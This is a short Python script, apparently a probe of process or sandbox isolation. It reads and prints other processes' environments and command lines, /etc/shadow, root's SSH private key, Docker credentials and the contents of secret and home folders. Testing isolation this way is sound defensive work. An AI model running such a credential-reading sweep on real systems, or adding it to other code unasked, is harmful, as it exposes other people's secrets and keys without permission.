# ruff: noqa: T201
"""Print all that can be read of others: environments, command lines, memory, and any file with an interesting name."""

import contextlib
import glob
import os
import sys

names = sys.argv[2:]
for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/root/etc/shadow", "/proc/*/cwd/*"):
    for path in glob.glob(pattern):
        with contextlib.suppress(OSError, UnicodeDecodeError), open(path) as file:
            print(path, file.read(2000))
for path in (
    "/etc/shadow",
    "/root/.ssh/id_rsa",
    "/root/.docker/config.json",
    "/etc/hostname",
    "/etc/ssh/sshd_config",
    *names,
):
    with contextlib.suppress(OSError), open(path) as file:
        print(path, file.read(2000))
for folder in ("/root", "/home", "/run/secrets", "/var", "/work", "/srv", "/mnt"):
    with contextlib.suppress(OSError):
        print(folder, os.listdir(folder))
